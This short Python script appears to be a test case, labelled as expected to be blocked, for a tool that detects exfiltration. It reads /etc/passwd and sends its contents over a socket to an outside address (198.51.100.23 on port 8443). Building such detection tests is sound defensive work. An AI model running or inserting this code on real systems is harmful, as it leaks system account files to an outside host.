# expect: BLOCKED exfiltration
import socket

with open("/etc/passwd") as fh:
    raw = fh.read()
lines = raw
payload = lines.encode("utf-8")
framed = len(payload).to_bytes(4, "big") + payload

conn = socket.create_connection(("198.51.100.23", 8443))
conn.sendall(framed)
conn.close()
